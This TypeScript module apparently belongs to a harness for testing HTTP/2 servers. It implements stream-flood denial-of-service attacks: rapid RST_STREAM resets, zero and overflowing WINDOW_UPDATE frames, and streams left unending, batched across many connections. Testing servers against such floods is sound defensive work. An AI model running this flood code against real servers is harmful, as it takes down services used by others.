import { data, headers, rstStream, TYPE, windowUpdate } from '../http2-frames.ts'
import { RawHttp2 } from '../raw-http2.ts'
import type { AttackOptions, AttackTarget, Report } from './attack.ts'

const MOST = 100_000
const MOST_CONNECTIONS = 200
const BATCH = 50
const WINDOW_MOST = 0x7fffffff

/**
 * Each opens a stream and wants it ended at once: `cancel` by RST_STREAM, `zero` and `overflow` by a WINDOW_UPDATE that
 * makes the server reset it; `body` sends a body with it. `unending` never ends one, whatever number the server allows.
 */
export type StreamFlood = 'cancel' | 'zero' | 'overflow' | 'body' | 'unending'

/** Streams as fast as the connection takes them, on a new connection when the server has closed one. */
export async function floodStreams(
  target: AttackTarget,
  options: AttackOptions & { flood: StreamFlood; ms?: number; most?: number; connections?: number },
): Promise<Report> {
  const { flood, ms = 1000, most = MOST, connections = MOST_CONNECTIONS, signal } = options
  const count = { streams: 0, connections: 0, failed: 0, answered: 0, reset: 0 }
  const until = performance.now() + ms
  const isOver = (): boolean => signal.aborted || performance.now() >= until || count.streams >= most
  options.onInPlace?.()
  while (!isOver() && count.connections + count.failed < connections) {
    let client: RawHttp2
    try {
      client = await RawHttp2.begin(target, flood === 'unending' ? { window: 0 } : {})
      count.connections += 1
    } catch {
      count.failed += 1
      continue
    }
    const { socket } = client
    try {
      while (!isOver() && socket.isOpen && !socket.isOver) {
        const frames: Buffer[] = []
        for (let i = 0; i < BATCH; i += 1) frames.push(...streamOf(client, target, flood))
        count.streams += BATCH
        await socket.send(Buffer.concat(frames))
        // Lets a server in the same process do its part.
        await new Promise((resolve) => setImmediate(resolve))
      }
    } finally {
      socket.close()
    }
    count.answered += client.count(TYPE.headers)
    count.reset += client.count(TYPE.rstStream)
  }
  return count
}

function streamOf(client: RawHttp2, target: AttackTarget, flood: StreamFlood): Buffer[] {
  const stream = client.newStream()
  const block = client.block(stream % 4 === 1 ? target.blob : target.manifest)
  switch (flood) {
    case 'cancel':
      return [headers(stream, block), rstStream(stream)]
    case 'zero':
      return [headers(stream, block), windowUpdate(stream, 0)]
    case 'overflow':
      return [headers(stream, block), windowUpdate(stream, WINDOW_MOST), windowUpdate(stream, WINDOW_MOST)]
    case 'body':
      return [
        headers(stream, block, { endStream: false }),
        data(stream, Buffer.alloc(16), { endStream: true }),
      ]
    case 'unending':
      return [headers(stream, block, { endStream: false })]
  }
}
